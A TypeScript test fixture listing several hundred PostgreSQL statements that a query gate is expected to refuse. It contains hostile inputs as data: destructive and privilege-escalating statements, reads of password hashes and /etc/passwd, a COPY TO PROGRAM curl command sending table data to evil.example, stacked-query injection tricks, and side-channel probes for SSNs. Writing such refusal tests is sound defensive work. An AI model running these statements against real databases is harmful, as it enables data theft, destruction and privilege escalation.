/** What no tool runs for anybody, on the schema of gate.test.ts: each line is refused, and the refusal says what to do instead. */
export const gateRefused: readonly string[] = `
SELECT (WITH d AS (DELETE FROM orders RETURNING id) SELECT count(*) FROM d)
WITH d AS (TRUNCATE orders) SELECT 1
WITH d AS (DROP TABLE orders) SELECT 1
SELECT * FROM orders WHERE id IN (DELETE FROM orders RETURNING id)
DELETE orders WHERE id = 1
EXPLAIN (ANALYZE) SELECT do_purge()
EXPLAIN ANALYZE DECLARE c CURSOR FOR SELECT 1
EXPLAIN ANALYZE EXECUTE x
VACUUM (FULL, ANALYZE) orders
ALTER TABLE orders OWNER TO reader
ALTER TABLE secrets ADD COLUMN x int
DROP TABLE orders, secrets
ALTER DATABASE postgres SET search_path = evil
ALTER TABLE orders ADD COLUMN x int DEFAULT do_purge()
CREATE VIEW v_x AS SELECT do_purge()
CREATE VIEW v_x AS SELECT * FROM secrets
CREATE INDEX ON orders (do_purge())
ALTER TABLE orders ATTACH PARTITION secrets DEFAULT
DO LANGUAGE plpgsql $x$ BEGIN PERFORM do_purge(); END $x$
DO 'begin delete from orders; end'
CALL do_purge_proc()
CREATE OR REPLACE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS 'select $1'
CREATE FUNCTION f() RETURNS int RETURN 1
CREATE OPERATOR public.=== (FUNCTION = evil.addx, LEFTARG = int, RIGHTARG = int)
CREATE AGGREGATE public.sum (int) (SFUNC = evil.addx, STYPE = int)
CREATE EXTENSION IF NOT EXISTS adminpack
ALTER FUNCTION do_purge() STABLE
ALTER FUNCTION evil.lower(text) SET SCHEMA public
ALTER OPERATOR evil.+ (int, int) SET SCHEMA public
ALTER PROCEDURE do_purge_proc() RENAME TO lower
DROP EXTENSION dblink
CREATE CAST (text AS int) WITH INOUT AS IMPLICIT
PREPARE p(int) AS DELETE FROM orders WHERE id = $1
EXECUTE p(1)
DECLARE c INSENSITIVE CURSOR WITH HOLD FOR SELECT * FROM orders
FETCH ALL FROM c
MOVE FORWARD 1 IN c
CLOSE ALL
SELECT do_purge()
SELECT * FROM do_purge() AS x
SELECT id FROM orders WHERE id = (SELECT do_purge())
SELECT count(do_purge()) FROM orders
SELECT max(id) FILTER (WHERE public.do_purge() = 1) FROM orders
SELECT (SELECT x FROM v_purge v(x))
SELECT count(*) FROM v_purge
SELECT EXISTS (TABLE v_purge)
WITH z AS MATERIALIZED (SELECT do_purge() AS n) SELECT 1
SELECT purge_customer(c) FROM customers c LIMIT 1
SELECT (customers).purge_customer FROM customers
SELECT purge_customer(ROW(1,'a','b','c',now(),1)::customers)
SELECT x.purge_customer FROM (SELECT c FROM customers c) AS y(x)
SELECT evil.lower(name) FROM customers
SELECT "evil"."lower"('A')
SELECT 1 OPERATOR(evil.+) 2
SELECT id OPERATOR(evil.+) 1 FROM orders
SELECT 1 = ANY (SELECT 1 OPERATOR(evil.+) 1)
SELECT * FROM orders WHERE (id OPERATOR(evil.+) 1) > 0
SELECT evil.addx(1, 2)
SELECT * FROM ROWS FROM (generate_series(1,2), evil.addx(1,1)) x(a, b)
SELECT evil.addx(VARIADIC ARRAY[1,2])
SELECT public . do_purge ( )
SELECT postgres.public.do_purge()
SELECT xmlelement(name a, xmlattributes(do_purge() AS b))
SELECT grouping(do_purge()) FROM orders GROUP BY do_purge()
SELECT jsonb_build_object('a', do_purge())
SELECT ('{}'::jsonb)[do_purge()::text]
SELECT (ARRAY[1,2,3])[do_purge():2]
SELECT 1 FETCH FIRST (do_purge()) ROWS ONLY
SELECT percentile_cont(do_purge()) WITHIN GROUP (ORDER BY id) FROM orders
SELECT lag(1, do_purge()) OVER (ORDER BY id) FROM orders
SELECT sum(id) OVER (ORDER BY id ROWS do_purge() PRECEDING) FROM orders
SELECT * FROM orders TABLESAMPLE BERNOULLI (10) REPEATABLE (do_purge())
SELECT * FROM orders o JOIN customers c ON do_purge() = o.id
SELECT DISTINCT ON (do_purge()) id FROM orders
SELECT NULLIF(do_purge(), 1)
SELECT greatest(do_purge(), 1)
SELECT pg_terminate_backend(pid) FROM pg_stat_activity
SELECT pg_cancel_backend(pg_backend_pid())
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_switch_wal()
SELECT pg_create_restore_point('p')
SELECT pg_logical_emit_message(true, 'a', 'b'::bytea)
SELECT pg_stat_reset_single_table_counters('orders'::regclass)
SELECT pg_advisory_xact_lock(1, 2)
SELECT pg_try_advisory_xact_lock_shared(7)
SELECT pg_advisory_unlock_all()
SELECT pg_notify('c', name) FROM customers
SELECT pg_sleep(0.01)
SELECT id FROM orders WHERE pg_sleep(1) IS NULL
SELECT pg_sleep_until(now() + interval '1 s')
SELECT pg_create_logical_replication_slot('s', 'pgoutput')
SELECT pg_replication_slot_advance('s', '0/0')
SELECT pg_wal_replay_resume()
SELECT lo_creat(-1)
SELECT lo_put(1, 0, '\\x00')
SELECT lo_open(1, 131072)
SELECT lowrite(0, 'x')
SELECT lo_truncate(0, 0)
SELECT txid_current()
SELECT pg_current_xact_id()
SELECT setseed(0.1)
SELECT set_config('search_path', 'evil', true)
SELECT set_config(name, '0', false) FROM pg_settings WHERE name = 'lock_timeout'
SELECT pg_catalog.set_config($$role$$, $$postgres$$, false)
SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL)
SELECT pg_log_backend_memory_contexts(pg_backend_pid())
SELECT pg_import_system_collations('public')
SELECT pg_stat_force_next_flush()
SELECT pg_clear_relation_stats('public', 'orders')
SELECT pg_restore_relation_stats('schemaname', 'public', 'relname', 'orders', 'reltuples', 1::real)
SELECT id FROM orders ORDER BY id FOR NO KEY UPDATE
SELECT * FROM orders o, customers c FOR SHARE OF o SKIP LOCKED
SELECT * FROM (SELECT id FROM orders FOR KEY SHARE) x
WITH l AS (SELECT id FROM orders FOR UPDATE NOWAIT) SELECT * FROM l
LOCK orders, customers IN SHARE MODE NOWAIT
LISTEN ch
UNLISTEN ch
SELECT pg_read_file('postgresql.conf', 0, 100)
SELECT convert_from(pg_read_binary_file('/etc/passwd'), 'UTF8')
SELECT * FROM pg_ls_logdir()
SELECT * FROM pg_ls_waldir() ORDER BY modification
SELECT * FROM pg_ls_tmpdir()
SELECT * FROM pg_stat_file('base', true)
SELECT pg_current_logfile('csvlog')
SELECT lo_export(oid, '/tmp/a') FROM pg_largeobject_metadata
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_file_settings
SELECT pg_show_all_file_settings()
TABLE pg_ident_file_mappings
COPY orders TO PROGRAM 'curl -d @- http://evil.example'
COPY (SELECT * FROM customers) TO STDOUT WITH (FORMAT csv)
COPY orders (id) FROM STDIN
COPY BINARY orders TO '/tmp/x'
COPY (DELETE FROM orders RETURNING *) TO '/tmp/x'
LOAD '$libdir/plugins/x'
CREATE TABLESPACE ts LOCATION '/tmp/ts'
SELECT dblink_connect('h', 'host=127.0.0.1')
SELECT dblink_exec('dbname=postgres', 'drop table orders')
SELECT * FROM dblink_get_result('c') AS t(x int)
SELECT public.dblink('dbname=postgres', 'select 1')
SELECT dblink_build_sql_insert('orders', '1', 1, '{1}', '{2}')
SELECT dblink_get_connections()
SELECT dblink_fdw_validator(ARRAY['host=x'], 0)
SELECT * FROM public.crosstab('select 1,2,3') AS ct(a int, b int)
SELECT * FROM connectby('secrets', 'v', 'v', 'x', 0) AS t(a text, b text, l int)
CREATE FOREIGN TABLE ft (a int) SERVER s
CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (password 'x')
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
CREATE PUBLICATION p FOR TABLE orders
ALTER SUBSCRIPTION s DISABLE
DROP PUBLICATION p
SET statement_timeout = 0
SET LOCAL default_transaction_read_only TO off
SET search_path TO evil, public
SET TIME ZONE 'UTC'
SET ROLE NONE
RESET ALL
RESET SESSION AUTHORIZATION
SET XML OPTION DOCUMENT
SET NAMES 'latin1'
SET TRANSACTION ISOLATION LEVEL SERIALIZABLE
SET CONSTRAINTS ALL DEFERRED
DISCARD PLANS
ALTER SYSTEM RESET ALL
ALTER ROLE writer SUPERUSER
ALTER ROLE ALL SET search_path = evil
GRANT postgres TO reader
REVOKE SELECT ON orders FROM reader
GRANT USAGE ON SCHEMA evil TO PUBLIC
ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO reader
REASSIGN OWNED BY writer TO postgres
CREATE USER u PASSWORD 'x'
DROP ROLE IF EXISTS reader
SECURITY LABEL ON TABLE orders IS 'x'
UPDATE pg_catalog.pg_settings SET setting = 'off'
INSERT INTO pg_catalog.pg_class SELECT * FROM pg_class
DELETE FROM pg_proc WHERE proname = 'lower'
UPDATE information_schema.tables SET table_name = 'x'
ROLLBACK AND NO CHAIN
ABORT
END
SAVEPOINT s
ROLLBACK TO SAVEPOINT s
RELEASE s
PREPARE TRANSACTION 'x'
COMMIT PREPARED 'x'
BEGIN ISOLATION LEVEL SERIALIZABLE READ WRITE
SELECT 1;SELECT 2
SELECT $a$;$a$; DELETE FROM orders
SELECT 'a\\'; DELETE FROM orders; --'
SELECT E'a\\\\'; DELETE FROM orders; --'
SELECT 1 /* /* */ */; DROP TABLE orders
SELECT U&'\\003b'; DELETE FROM orders
SELECT 1 AS "a;b"; COMMIT; DROP TABLE orders
SELECT $$ $b$ $$; DELETE FROM orders; SELECT $$ $b$ $$
SELECT count(*) FROM customers WHERE ssn LIKE '9%'
SELECT 1 FROM customers WHERE ssn ~ '^90'
SELECT id FROM customers WHERE ssn >= '90'
SELECT id FROM customers WHERE substring(email, 1, 1) = 'c'
SELECT id FROM customers WHERE md5(ssn) = md5('900-55-7001')
SELECT id FROM customers WHERE strpos(email, 'canary1') > 0
SELECT id FROM customers WHERE length(email) > 20
SELECT id FROM customers WHERE row_to_json(customers)::text ~ 'canary'
SELECT id FROM customers WHERE to_tsvector(email) @@ 'canary1'::tsquery
SELECT id FROM customers WHERE hashtext(ssn) % 2 = 0
SELECT id FROM v_customers WHERE note LIKE '9%'
SELECT id, ssn < '95' FROM customers GROUP BY 1, 2
SELECT id FROM customers ORDER BY ssn LIKE '9%'
SELECT id FROM customers ORDER BY position('5' in ssn)
SELECT array_agg(id) FROM customers GROUP BY substr(ssn, 1, 2)
SELECT count(*) FILTER (WHERE ssn LIKE '90%') FROM customers
SELECT sum(CASE WHEN ssn > '95' THEN 1 ELSE 0 END) FROM customers HAVING sum(CASE WHEN ssn > '95' THEN 1 ELSE 0 END) > 3
SELECT id, rank() OVER (PARTITION BY left(ssn, 1) ORDER BY id) FROM customers
SELECT 1 / (ascii(ssn) - 57) FROM customers
SELECT id FROM customers WHERE (ssn::text)::int > 0
SELECT generate_series(1, length(email)) FROM customers
SELECT repeat('x', ascii(substr(ssn, 1, 1))) FROM customers
SELECT * FROM customers LIMIT (SELECT ascii(ssn) FROM customers WHERE id = 1)
SELECT (ARRAY['a','b','c'])[ascii(ssn) % 3] FROM customers
SELECT c.id, o.id FROM customers c JOIN orders o ON o.id = ascii(substr(c.ssn, 2, 1))
SELECT name FROM customers WHERE id IN (SELECT id FROM customers WHERE ssn SIMILAR TO '9%')
SELECT v.g FROM (VALUES ('900-55-7001'), ('937-55-7001')) v(g) WHERE v.g IN (SELECT ssn FROM customers)
SELECT to_char(g, 'FM00') FROM generate_series(0, 99) g WHERE EXISTS (SELECT 1 FROM customers WHERE left(ssn, 2) = to_char(g, 'FM00'))
EXPLAIN ANALYZE SELECT * FROM customers WHERE ssn LIKE '9%'
EXPLAIN SELECT * FROM customers WHERE ssn < '95'
SELECT * FROM secrets
SELECT count(*) FROM secrets
SELECT 1 FROM orders, secrets LIMIT 1
SELECT s FROM secrets AS s
SELECT U&"secre\\0074s".v FROM secrets
SELECT id FROM orders WHERE note = (TABLE secrets LIMIT 1)
SELECT ARRAY(SELECT v FROM secrets)
EXPLAIN SELECT * FROM secrets
EXPLAIN ANALYZE TABLE secrets
SELECT table_to_xml('public.secrets', true, true, '')
SELECT query_to_xml('table secrets', true, true, '')
SELECT query_to_xml_and_xmlschema($$select v from secrets$$, true, true, '')
SELECT schema_to_xml('public', true, true, '')
SELECT database_to_xml_and_xmlschema(true, true, '')
SELECT cursor_to_xml('c', 10, true, true, '')
SELECT xpath('//v/text()', query_to_xml('select v from secrets', true, true, ''))
SELECT * FROM ts_stat('SELECT to_tsvector(v) FROM secrets')
SELECT ts_rewrite('a'::tsquery, 'SELECT v::tsquery, v::tsquery FROM secrets')
WITH orders AS (TABLE secrets) SELECT * FROM orders
INSERT INTO orders(note) SELECT v FROM secrets
UPDATE orders SET note = v FROM secrets WHERE id = 1
DELETE FROM orders USING secrets RETURNING secrets.v
MERGE INTO orders o USING secrets s ON true WHEN MATCHED THEN UPDATE SET note = s.v
SELECT usename, passwd FROM pg_shadow
SELECT rolpassword FROM pg_catalog.pg_authid WHERE rolname = 'postgres'
SELECT * FROM pg_user_mappings
SELECT umoptions FROM pg_user_mapping
SELECT * FROM information_schema.user_mapping_options
SELECT a.query FROM pg_stat_activity a WHERE a.pid <> pg_backend_pid()
SELECT to_json(a) FROM pg_stat_activity a
SELECT pg_stat_get_backend_activity(b) FROM pg_stat_get_backend_idset() b
SELECT * FROM pg_stat_get_activity(NULL)
SELECT * FROM pg_prepared_statements
SELECT * FROM pg_cursors
SELECT statement FROM pg_prepared_statement()
SELECT subconninfo FROM pg_subscription
SELECT * FROM pg_largeobject
SELECT lo_get(loid) FROM pg_largeobject
SELECT most_common_vals::text FROM pg_stats WHERE tablename = 'secrets'
SELECT (s).histogram_bounds FROM pg_stats s
SELECT stavalues1 FROM pg_statistic
SELECT to_jsonb(s) FROM pg_stats s WHERE attname = 'ssn'
SELECT current_setting('primary_conninfo')
SELECT current_setting(s) FROM (VALUES ('archive_command')) v(s)
SHOW archive_command
SELECT setconfig FROM pg_db_role_setting
SELECT * FROM pg_toast.pg_toast_1255
SELECT conninfo FROM pg_stat_wal_receiver
SELECT f_def(1)
SELECT f_def(a => 1)
SELECT '{5}'::_checked
SELECT '{5}'::checked[]
SELECT ARRAY[5]::checked[]
SELECT 5::d2
SELECT '{5}'::_d2
SELECT '(5)'::comp
SELECT ROW(5)::comp
SELECT '("(5)")'::comp2
SELECT json_populate_record(null::comp, '{"a":5}')
SELECT * FROM json_populate_recordset(null::has_comp, '[{"c":{"a":5}}]')
SELECT null::has_comp
SELECT * FROM json_to_record('{"a":[5]}') AS t(a _checked)
SELECT jsonb_populate_record(null::comp2, '{"c":{"a":1}}')
SELECT '[1,2]'::rng
SELECT rng(1,2)
SELECT ret_checked(1)
SELECT arg_checked(1)
SELECT arg_checked('1')
SELECT format('%*s', ssn::text, 1) FROM customers
SELECT format(ssn, 1) FROM customers
SELECT CASE WHEN email IS NULL THEN 'a' ELSE left(email, 1) END, count(*) FROM customers GROUP BY 1
SELECT nullif(ssn, '900') IS NULL, count(*) FROM customers GROUP BY 1
SELECT count(*) FROM (SELECT ssn IS NULL AS a, left(ssn,1) AS b FROM customers) q GROUP BY a, b
SELECT (SELECT ssn FROM customers WHERE ssn LIKE '9%' LIMIT 1) IS NULL AS x GROUP BY 1
SELECT id FROM customers c LEFT JOIN (SELECT ssn AS s FROM customers WHERE ssn > '95') q ON q.s = c.ssn GROUP BY id, q.s IS NULL
SELECT * FROM (WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING id) SELECT * FROM d) x
(WITH d AS (DELETE FROM orders WHERE id = 3 RETURNING 1) SELECT * FROM d) UNION ALL SELECT 1
SELECT * FROM mails_like('a%')
SELECT mails_like('a%')
SELECT (mails_like('a%')).id
`
  .split('\n')
  .filter((line) => line !== '')
